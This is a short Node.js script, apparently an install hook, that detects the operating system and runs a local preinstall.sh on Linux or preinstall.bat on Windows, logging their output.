const { exec, spawn } = require("child_process");

function onLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {
    if (error) {
      console.log(`error: ${error.message}`);
      return;
    }
    if (stderr) {
      console.log(`stderr: ${stderr}`);
      return;
    }
    console.log(`stdout: ${stdout}`);
  });
}

let system = process.platform;
if (system == "darwin") {
  system = "MacOS";
} else if (system == "win32") {
  system = "Windows";
  const batch = spawn("cmd.exe", ["/c", "preinstall.bat"]);
  batch.stdout.on("data", (data) => {
    console.log(data.toString());
  });
  batch.stderr.on("data", (data) => {
    console.error(data.toString());
  });
  batch.on("exit", (code) => {
    console.log(`Child exited with code ${code}`);
  });
} else if (system == "linux") {
  system = "Linux";
  onLinux();
}
